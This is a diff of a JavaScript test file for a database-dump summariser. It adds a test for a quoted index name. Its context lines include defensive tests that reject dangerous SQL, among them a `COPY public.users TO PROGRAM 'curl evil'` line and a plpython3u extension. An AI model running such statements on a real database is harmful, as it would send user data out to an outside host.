@@ -48,6 +48,11 @@ describe('the database part of an archive', () => {
     expect(() => summarise('CREATE EXTENSION IF NOT EXISTS plpython3u WITH SCHEMA public;')).toThrow(DumpError)
   })
 
+  it('takes an index whose name pg_dump quotes for its capitals (the newsletter\'s deliveries)', () => {
+    const index = 'CREATE UNIQUE INDEX "releaseMail_subscriber_idx" ON public.release_mail_recipients USING btree (release_mail_id, subscriber_id);'
+    expect(summarise(index).statements).toBe(1)
+  })
+
   it('refuses what pg_dump never writes for this site, and a dump cut in a statement', () => {
     expect(() => summarise(`COPY public.users TO PROGRAM 'curl evil';`)).toThrow(DumpError)
     expect(() => summarise(`CREATE FUNCTION public.f() RETURNS int AS $$ SELECT 1; $$ LANGUAGE sql;`)).toThrow(/does not write for this site/)
